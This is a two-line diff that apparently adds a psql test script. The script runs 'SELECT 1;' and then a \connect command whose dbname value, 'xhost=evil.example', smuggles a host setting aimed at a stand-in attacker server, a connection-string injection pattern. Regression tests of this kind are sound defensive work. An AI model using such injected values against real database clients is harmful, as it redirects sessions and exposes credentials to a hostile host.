@@ -1,0 +1,2 @@
+SELECT 1;
+\connect -reuse-previous=on "dbname=xhost=evil.example"
